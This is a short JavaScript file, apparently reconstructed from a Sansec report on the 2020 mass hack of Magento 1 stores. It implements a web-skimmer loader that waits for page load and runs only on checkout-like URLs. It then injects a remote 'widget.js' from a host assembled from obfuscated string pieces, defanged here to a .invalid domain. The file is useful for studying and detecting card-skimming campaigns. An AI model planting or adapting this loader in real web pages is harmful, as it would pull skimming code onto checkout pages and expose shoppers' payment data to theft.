// mcdnn-widget, written from Sansec, "Largest Magento hack to date: 2,000 stores hit" (2020),
// on the mass compromise of end-of-life Magento 1 stores: the loader added to the shops'
// pages pulls "widget.js" from a numbered path on the attackers' CDN-like domain (here
// .invalid, the path built from numbers at run time) once the page has loaded, and only
// where the URL looks like the one-page checkout.
(function (w, d) {
  function load() {
    if (!/onestepcheckout|onepage|checkout\/cart|firecheckout/.test(w.location.href)) return;
    var id = (61001 * 2).toString();
    var s = d.createElement("script");
    s.type = "text/javascript";
    s.async = true;
    s.src = "//" + ["mcdn", "cdn", "invalid"].join(".").replace("cdn.cdn", "cdnn") + "/" + id + "/assets/js/widget.js";
    var f = d.getElementsByTagName("script")[0];
    f.parentNode.insertBefore(s, f);
  }
  if (d.readyState === "complete") load();
  else w.addEventListener ? w.addEventListener("load", load, false) : w.attachEvent("onload", load);
})(window, document);
